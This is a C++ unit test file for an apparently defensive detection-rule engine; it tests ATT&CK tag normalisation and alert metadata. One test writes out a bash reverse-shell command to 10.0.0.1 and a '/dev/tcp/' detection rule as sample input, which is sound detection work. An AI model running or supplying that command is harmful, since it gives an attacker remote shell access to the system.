// ATT&CK tag normalisation and the metadata every match carries.
#include <catch2/catch.hpp>

#include "rules/engine/attack_tags.hpp"
#include "rules/engine/rule_set.hpp"

namespace sr = seerflow::rules;

TEST_CASE("techniques and tactics are normalised") {
  const auto m = sr::map_attack_tags({"attack.t1059.004", "attack.credential_access",
                                      "attack.T1110", "attack.stealth", "attack.g0032",
                                      "cve.2021-44228", "attack.t1059.004", "attack.execution"});
  CHECK(m.techniques == std::vector<std::string>{"T1059.004", "T1110"});
  CHECK(m.tactics == std::vector<std::string>{"credential-access", "stealth", "execution"});
  CHECK(m.tactic_ids == std::vector<std::string>{"TA0006", "TA0005", "TA0002"});
  CHECK(sr::tactic_id("command-and-control") == "TA0011");
  CHECK(sr::tactic_id("lateral_movement") == "TA0008");
  CHECK(sr::tactic_id("not-a-tactic").empty());
}

TEST_CASE("rule metadata for alerts") {
  sr::rule_set rs;
  rs.add_yaml(
      "title: Reverse shell\nid: r-1\nstatus: test\nlevel: high\n"
      "author:\n  - Alice\n  - Bob\ntags: [attack.execution, attack.t1059.004]\n"
      "logsource: {product: linux, category: process_creation}\n"
      "detection:\n  sel: {CommandLine|contains: '/dev/tcp/'}\n  condition: sel\n",
      "r.yml");
  rs.finalize();
  REQUIRE(rs.rules().size() == 1);
  const auto& info = rs.rules()[0].info;
  CHECK(info.id == "r-1");
  CHECK(info.title == "Reverse shell");
  CHECK(info.level == "high");
  CHECK(info.author == "Alice, Bob");
  CHECK(info.techniques == std::vector<std::string>{"T1059.004"});
  CHECK(info.tactic_ids == std::vector<std::string>{"TA0002"});
  CHECK(info.source.category == "process_creation");
  CHECK(info.file == "r.yml");
  sr::field_view ev(rs.fields());
  ev.add(sr::normalize_field_name("Command Line"), "bash -i >& /dev/tcp/10.0.0.1/80 0>&1");
  sr::match_scratch scratch;
  std::vector<sr::match_result> out;
  rs.evaluate(rs.bucket({"linux", "process_creation", ""}), ev, scratch, out);
  REQUIRE(out.size() == 1);
  CHECK(out[0].info->author == "Alice, Bob");
  CHECK(out[0].alert);
  out.clear();
  rs.evaluate(rs.bucket({"windows", "process_creation", ""}), ev, scratch, out);
  CHECK(out.empty());  // logsource does not apply
}
